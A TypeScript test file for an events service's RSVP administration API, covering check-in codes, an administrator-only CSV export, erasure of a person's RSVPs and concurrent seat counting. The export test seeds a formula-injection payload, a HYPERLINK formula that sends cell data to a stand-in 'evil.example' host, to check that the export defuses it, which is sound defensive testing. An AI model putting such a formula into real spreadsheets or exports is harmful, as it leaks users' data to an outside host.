// RSVP administration (docs/decisions.md, "RSVP") through the REST door, on both databases: check-in
// codes and checking in by them at the door, the CSV export for administrators, and erasure of a
// person's RSVPs on request, exact beside concurrent RSVP writes (PostgreSQL).
import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { transactionDriverOf } from '../../src/db/driver.js';
import { insertRsvp } from '../../src/queries/rsvps.js';
import { EXPORT_PAGE } from '../../src/services/rsvps/export.js';
import { openRsvpEvent } from '../setup/rsvp-events.js';
import { describeEachDatabase, itOnPostgres } from '../setup/each-database.js';
import type { TestServer } from '../setup/server.js';

const CODE = /^[0-9A-HJKMNP-TV-Z]{8}$/;

let n = 0;
/** An event open to RSVP (test/setup/rsvp-events.ts) on this file's day, unless `body` moves it. */
const openEvent = (s: TestServer, rsvp: Record<string, unknown> = {}, body: Record<string, unknown> = {}) =>
  openRsvpEvent(s, rsvp, { start_date: '2043-06-10 19:00', end_date: '2043-06-10 21:00', ...body });

/** An RSVP the organiser (the event's author) takes for someone by name and e-mail. */
async function rsvpFor(s: TestServer, eventId: number, name: string, body: Record<string, unknown> = {}) {
  const email = `guest-${++n}@example.org`;
  const r = await s.post(`/events/${eventId}/rsvps`, { name, email, ...body }, { as: 'author' });
  expect(r.status, r.text).toBe(201);
  return r.body;
}

const counts = async (s: TestServer, eventId: number) => (await s.get(`/events/${eventId}`, { as: null })).body.rsvp;

/** A CSV export's text, and the bytes it starts with. */
async function exported(s: TestServer, eventId: number, headers: Record<string, string> = {}) {
  const r = await fetch(`${s.base}/events/${eventId}/rsvps.csv`, {
    headers: { authorization: `Bearer ${s.users.administrator.appPassword}`, ...headers },
  });
  const bytes = Buffer.from(await r.arrayBuffer());
  return { status: r.status, headers: r.headers, bytes, text: bytes.toString('utf8').replace(/^\uFEFF/, '') };
}

describeEachDatabase(
  'RSVP administration',
  (s, kind) => {
    it('gives every RSVP its own check-in code, shown to its owner and the organisers', async () => {
      const event = await openEvent(s);
      const mine = await s.post(`/events/${event.id}/rsvps`, {}, { as: 'subscriber' });
      expect(mine.status, mine.text).toBe(201);
      expect(mine.body.check_in_code).toMatch(CODE);
      const other = await rsvpFor(s, event.id, 'Bea');
      expect(other.check_in_code).toMatch(CODE);
      expect(other.check_in_code).not.toBe(mine.body.check_in_code);
      const stored = await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: mine.body.id } });
      expect(stored.checkInCode).toBe(mine.body.check_in_code);
      const own = await s.get(`/events/${event.id}/rsvps/${mine.body.id}`, { as: 'subscriber' });
      expect(own.body.check_in_code).toBe(mine.body.check_in_code);
    });

    it('draws a code again when the event has it already', async () => {
      const event = await openEvent(s);
      const taken = await rsvpFor(s, event.id, 'Taken');
      const draws = [taken.check_in_code, taken.check_in_code, 'ZZZZ2222'];
      const transaction = transactionDriverOf(s.db.prisma)!;
      const row = await transaction((run) =>
        insertRsvp(
          run,
          {
            eventId: event.id,
            accountId: null,
            name: 'Next',
            email: 'next@example.org',
            guests: 0,
            answer: 'going',
            status: 'going',
          },
          () => draws.shift()!,
        ),
      );
      expect(row.checkInCode).toBe('ZZZZ2222');
      expect(draws).toEqual([]);
    });

    it('back-fills the codes of RSVPs made before codes, each unique in its event', async () => {
      const event = await openEvent(s);
      const ids = [];
      for (const name of ['Old 1', 'Old 2', 'Old 3']) ids.push((await rsvpFor(s, event.id, name)).id);
      await s.db.prisma.rsvp.updateMany({ where: { id: { in: ids } }, data: { checkInCode: null } });
      const sql = readFileSync('prisma/migrations/20261129210000_rsvp_admin/migration.sql', 'utf8');
      await s.db.prisma.$executeRawUnsafe(sql.slice(sql.indexOf('DO $$')));
      const codes = (await s.db.prisma.rsvp.findMany({ where: { id: { in: ids } } })).map((r) => r.checkInCode);
      for (const code of codes) expect(code).toMatch(CODE);
      expect(new Set(codes).size).toBe(3);
    });

    it('checks a seated RSVP in by its code, as typed at the door, once', async () => {
      const event = await openEvent(s, { capacity: 3, guests_max: 2 });
      const ana = await rsvpFor(s, event.id, 'Ana', { guests: 1 });
      const bo = await rsvpFor(s, event.id, 'Bo', { guests: 1 });
      expect(bo.status).toBe('waiting');
      const typed = `${ana.check_in_code.slice(0, 4).toLowerCase()} - ${ana.check_in_code.slice(4)}`;
      const r = await s.post(`/events/${event.id}/rsvps/check-in`, { code: typed }, { as: 'author' });
      expect(r.status, r.text).toBe(200);
      expect(r.body).toMatchObject({ id: ana.id, status: 'checked_in', guests: 1 });
      expect(await counts(s, event.id)).toMatchObject({ going: 2, checked_in: 2, waiting: 2, remaining: 1 });
      // Scanned again: the same RSVP, unchanged.
      const again = await s.post(`/events/${event.id}/rsvps/check-in`, { code: ana.check_in_code }, { as: 'author' });
      expect(again.status, again.text).toBe(200);
      expect(again.body).toEqual(r.body);
      // A waiting RSVP is not seated: refused as PATCH status=checked_in is.
      const waiting = await s.post(`/events/${event.id}/rsvps/check-in`, { code: bo.check_in_code }, { as: 'author' });
      expect(waiting.status, waiting.text).toBe(409);
      expect(waiting.body.code).toBe('rest_rsvp_status');
      expect((await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: bo.id } })).status).toBe('waiting');
    });

    it('answers 404 for a code no RSVP of the event has, and checks in for organisers only', async () => {
      const event = await openEvent(s);
      const elsewhere = await openEvent(s);
      const theirs = await rsvpFor(s, elsewhere.id, 'Elsewhere');
      const mine = await s.post(`/events/${event.id}/rsvps`, {}, { as: 'subscriber' });
      const path = `/events/${event.id}/rsvps/check-in`;
      for (const code of ['ZZZZZZZZ', theirs.check_in_code]) {
        const r = await s.post(path, { code }, { as: 'author' });
        expect(r.status, r.text).toBe(404);
        expect(r.body.code).toBe('rest-rsvp-not-found');
      }
      expect((await s.post(path, { code: 'not a code!' }, { as: 'author' })).status).toBe(400);
      // Its owner may not check itself in; nor may anyone who cannot edit the event, nor anonymous callers.
      for (const [as, status] of [
        ['subscriber', 403],
        ['contributor', 403],
        [null, 401],
      ] as const) {
        const r = await s.post(path, { code: mine.body.check_in_code }, { as });
        expect(r.status, `${as}: ${r.text}`).toBe(status);
      }
      expect((await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: mine.body.id } })).status).toBe('going');
      // An editor organises every event.
      const editor = await s.post(path, { code: mine.body.check_in_code }, { as: 'editor' });
      expect(editor.body.status).toBe('checked_in');
      expect((await s.post('/events/999999/rsvps/check-in', { code: 'ZZZZZZZZ' }, { as: 'editor' })).status).toBe(404);
    });

    it('exports the RSVPs as CSV for administrators only, quoted, with formulas defused', async () => {
      const event = await openEvent(s, { guests_max: 2 }, { title: 'Export Night' });
      const ana = await rsvpFor(s, event.id, 'Ana Lima', { guests: 2 });
      await rsvpFor(s, event.id, 'Lima, "Bo"\nJr.');
      await rsvpFor(s, event.id, '=HYPERLINK("http://evil.example/?x="&A1)');
      await rsvpFor(s, event.id, '@SUM(A1)');
      await rsvpFor(s, event.id, '-2+3');
      await rsvpFor(s, event.id, 'Zoë Ørsted');
      const r = await exported(s, event.id);
      expect(r.status, r.text).toBe(200);
      expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(r.headers.get('content-disposition')).toBe('attachment; filename=export-night-rsvps.csv');
      expect([...r.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const stored = await s.db.prisma.rsvp.findMany({ where: { eventId: event.id }, orderBy: { id: 'asc' } });
      const when = (d: Date) => d.toISOString().slice(0, 19).replace('T', ' ');
      const tail = (r: (typeof stored)[number]) =>
        `${r.guests},going,going,${r.checkInCode},${when(r.createdAt)},${when(r.modifiedAt)}`;
      expect(r.text).toBe(
        [
          'id,name,email,guests,answer,status,check_in_code,created,modified',
          `${stored[0].id},Ana Lima,${stored[0].email},${tail(stored[0])}`,
          `${stored[1].id},"Lima, ""Bo""\nJr.",${stored[1].email},${tail(stored[1])}`,
          `${stored[2].id},"'=HYPERLINK(""http://evil.example/?x=""&A1)",${stored[2].email},${tail(stored[2])}`,
          `${stored[3].id},'@SUM(A1),${stored[3].email},${tail(stored[3])}`,
          `${stored[4].id},'-2+3,${stored[4].email},${tail(stored[4])}`,
          `${stored[5].id},Zoë Ørsted,${stored[5].email},${tail(stored[5])}`,
          '',
        ].join('\r\n'),
      );
      expect(stored[0].id).toBe(ana.id);
      // The same RSVPs: a client that holds the file gets a 304; a change makes a new one.
      const etag = r.headers.get('etag')!;
      expect((await exported(s, event.id, { 'if-none-match': etag })).status).toBe(304);
      await s.post(`/events/${event.id}/rsvps/check-in`, { code: ana.check_in_code }, { as: 'author' });
      const changed = await exported(s, event.id, { 'if-none-match': etag });
      expect(changed.status).toBe(200);
      expect(changed.text).toContain(`${ana.id},Ana Lima,${ana.email},2,going,checked_in,`);
      // Nobody else may: not the event's author, not an editor, not anonymous callers.
      for (const [as, status] of [
        ['author', 403],
        ['editor', 403],
        [null, 401],
      ] as const) {
        const refused = await s.get(`/events/${event.id}/rsvps.csv`, { as });
        expect(refused.status, `${as}: ${refused.text}`).toBe(status);
        expect(refused.body.code).toBe('rest_forbidden');
      }
      expect((await s.get('/events/999999/rsvps.csv')).status).toBe(404);
    });

    it('exports a big event page by page, every RSVP once and in order', async () => {
      const event = await openEvent(s);
      const count = 2 * EXPORT_PAGE + 7;
      await s.db.prisma.rsvp.createMany({
        data: Array.from({ length: count }, (_, i) => ({
          eventId: event.id,
          name: `Person ${i}`,
          email: `big-${i}@example.org`,
          status: 'going' as const,
          checkInCode: `Q${String(i).padStart(7, '0')}`,
        })),
      });
      const r = await exported(s, event.id);
      expect(r.status).toBe(200);
      const lines = r.text.trimEnd().split('\r\n').slice(1);
      expect(lines.map((line) => line.split(',')[1])).toEqual(Array.from({ length: count }, (_, i) => `Person ${i}`));
    });

    it("erases a person's RSVPs at every event: cancelled ahead, kept as they were where it started", async () => {
      const ahead = await openEvent(s, { capacity: 2 });
      const past = await openEvent(s, {}, { start_date: '2020-03-01 10:00', end_date: '2020-03-01 12:00' });
      const declined = await openEvent(s);
      const other = await openEvent(s);
      const x = await rsvpFor(s, ahead.id, 'Xena', { email: 'xena@example.org' });
      await rsvpFor(s, ahead.id, 'Yves');
      const waiting = await rsvpFor(s, ahead.id, 'Zoe');
      expect(waiting.status).toBe('waiting');
      const there = await rsvpFor(s, past.id, 'Xena', { email: 'Xena@Example.org' });
      await s.post(`/events/${past.id}/rsvps/check-in`, { code: there.check_in_code }, { as: 'author' });
      await rsvpFor(s, declined.id, 'Xena', { email: 'XENA@example.org', answer: 'not_going' });
      const kept = await rsvpFor(s, other.id, 'Kept');

      // Messages waiting to be sent hold the address and name: they go with the erasure.
      const toXena = { recipient: { equals: 'xena@example.org', mode: 'insensitive' as const } };
      expect(await s.db.prisma.mailOutbox.count({ where: toXena })).toBeGreaterThan(0);
      const r = await s.post('/rsvps/erasure', { email: 'xEnA@example.ORG' });
      expect(r.status, r.text).toBe(200);
      expect(r.body).toEqual({ erased: 3, events: [ahead.id, past.id, declined.id].sort((a, b) => a - b) });
      expect(await s.db.prisma.mailOutbox.count({ where: toXena })).toBe(0);

      const rows = await s.db.prisma.rsvp.findMany({ where: { id: { in: [x.id, there.id] } }, orderBy: { id: 'asc' } });
      const erased = await s.db.prisma.rsvp.findMany({
        where: { erasedAt: { not: null }, eventId: { in: [ahead.id, past.id, declined.id] } },
      });
      expect(erased).toHaveLength(3);
      for (const row of erased) {
        expect(row).toMatchObject({ name: null, email: null, accountId: null, tokenHash: null, checkInCode: null });
      }
      // Ahead: cancelled, and the waiting list seated in the same write. Started: still checked in.
      expect(rows.map((row) => row.status)).toEqual(['cancelled', 'checked_in']);
      expect(await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: waiting.id } })).toMatchObject({
        status: 'going',
      });
      expect(await counts(s, ahead.id)).toMatchObject({ going: 2, waiting: 0 });
      expect(await counts(s, past.id)).toMatchObject({ going: 1, checked_in: 1 });
      expect((await s.db.prisma.rsvp.findFirstOrThrow({ where: { eventId: declined.id } })).status).toBe('declined');
      expect((await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: kept.id } })).email).toBe(kept.email);
      // The organisers still see the row, without the person; the export too.
      const seen = await s.get(`/events/${ahead.id}/rsvps/${x.id}`, { as: 'author' });
      expect(seen.body).toMatchObject({ name: null, email: null, check_in_code: null, status: 'cancelled' });
      expect((await exported(s, ahead.id)).text).toContain(`\r\n${x.id},,,0,going,cancelled,,`);
      // Nothing left to erase; the address may answer again, as anyone new.
      expect((await s.post('/rsvps/erasure', { email: 'xena@example.org' })).body).toEqual({ erased: 0, events: [] });
      const anew = await rsvpFor(s, declined.id, 'Xena', { email: 'xena@example.org' });
      expect(anew.id).not.toBe(x.id);
    });

    it('erases for administrators only, refusing others with nothing changed', async () => {
      const event = await openEvent(s);
      const rsvp = await rsvpFor(s, event.id, 'Refused');
      for (const [as, status] of [
        ['editor', 403],
        ['author', 403],
        [null, 401],
      ] as const) {
        const r = await s.post('/rsvps/erasure', { email: rsvp.email }, { as });
        expect(r.status, `${as}: ${r.text}`).toBe(status);
      }
      expect((await s.post('/rsvps/erasure', { email: 'not an address' })).status).toBe(400);
      expect((await s.db.prisma.rsvp.findUniqueOrThrow({ where: { id: rsvp.id } })).email).toBe(rsvp.email);
    });

    itOnPostgres(
      kind,
      'keeps the seats exact when an erasure runs among RSVPs being taken',
      'parallel writers',
      async () => {
        const SEATS = 10;
        const event = await openEvent(s, { capacity: SEATS });
        const x = await rsvpFor(s, event.id, 'Erased', { email: 'erased@example.org' });
        const answers = Array.from({ length: 40 }, (_, i) =>
          s.post(`/events/${event.id}/rsvps`, { name: `P${i}`, email: `p${i}@example.org` }, { as: 'author' }),
        );
        const erasure = s.post('/rsvps/erasure', { email: 'erased@example.org' });
        const [erased, ...taken] = await Promise.all([erasure, ...answers]);
        expect(erased.body).toEqual({ erased: 1, events: [event.id] });
        expect(taken.filter((r) => r.status !== 201)).toEqual([]);
        const rows = await s.db.prisma.rsvp.findMany({ where: { eventId: event.id } });
        const seated = rows.filter((r) => r.status === 'going');
        expect(rows.find((r) => r.id === x.id)).toMatchObject({ status: 'cancelled', email: null });
        // Exactly the capacity seated, the rest waiting, whichever order the writes and the erasure took.
        expect(seated).toHaveLength(SEATS);
        expect(rows.filter((r) => r.status === 'waiting')).toHaveLength(40 - SEATS);
        expect(await counts(s, event.id)).toMatchObject({ going: SEATS, waiting: 40 - SEATS, remaining: 0 });
      },
    );
  },
  // Messages are queued only where the service sends mail (src/mail/outbox.ts sendsMail); no sender
  // runs here, so none leaves: the erasure's test finds them queued.
  { env: { SMTP_URL: 'smtp://127.0.0.1:9' } },
);
